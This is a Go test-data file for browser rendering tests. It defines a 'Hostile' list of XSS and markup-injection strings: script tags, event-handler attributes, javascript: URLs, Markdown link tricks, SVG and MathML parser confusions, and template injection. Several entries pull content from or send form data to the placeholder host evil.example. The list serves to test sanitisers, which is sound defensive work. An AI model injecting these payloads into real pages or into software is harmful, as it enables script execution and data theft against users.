package browsertest

// Hostile are texts that would do something in a page that took them for HTML,
// for Markdown, or for an address.
var Hostile = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<iframe srcdoc="<script>parent.alert(1)</script>">`,
	`<a href="javascript:alert(1)">x</a>`, `[x](javascript:alert(1))`, `![x](https://evil.example/pixel.png)`, `<style>*{display:none}</style>`,
	`<link rel=stylesheet href=https://evil.example/x.css>`, `<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href=https://evil.example>`,
	`<form action=https://evil.example><input name=p></form>`, `<object data=https://evil.example></object>`, `<embed src=https://evil.example>`,
	`<video src=x onerror=alert(1)>`, `<details open ontoggle=alert(1)>`, `<body onload=alert(1)>`, `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;img src=x onerror=alert(1)&#62;`, `&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`, `"><script>alert(1)</script>`,
	`' onfocus=alert(1) autofocus='`, "`<img src=x onerror=alert(1)>`", "```\n<img src=x onerror=alert(1)>\n```", `</pre><script>alert(1)</script>`, `</p></article><script>alert(1)</script>`,
	`<template shadowrootmode=open><script>alert(1)</script></template>`, `<knowledge-assistant endpoint=https://evil.example></knowledge-assistant>`, `<slot name=x onslotchange=alert(1)>`,
	`<button autofocus onfocus=alert(1)>`, `<marquee onstart=alert(1)>`, `<input type=image src=x onerror=alert(1)>`, `<script src=https://evil.example/x.js></script>`, `<!--><img src=x onerror=alert(1)>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`, `{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, "\u202ealert(1)\u2066", `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`[1][2][99][0] [1](javascript:alert(1))`,
	`<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>`, `<svg><use href="https://evil.example/x.svg#a"></use></svg>`, `<image href=x onerror=alert(1)>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<a href="vbscript:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>", `[x](  javascript:alert(1) "t")`, `<javascript:alert(1)>`, "[x]: javascript:alert(1)\n\n[x]", `![x](x "onerror=alert(1)")`,
	`<audio src=x onerror=alert(1)></audio>`, `<select autofocus onfocus=alert(1)></select>`, `<xss style="animation-name:x" onanimationstart=alert(1)></xss>`, `<div style="background:url(https://evil.example/x)">x</div>`,
	`<dialog open onclose=alert(1)>`, `<frameset onload=alert(1)>`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</style><script>alert(1)</script>`, `javascript:alert(1)`, `#token=stolen`, `"onmouseover="alert(1)`,
}
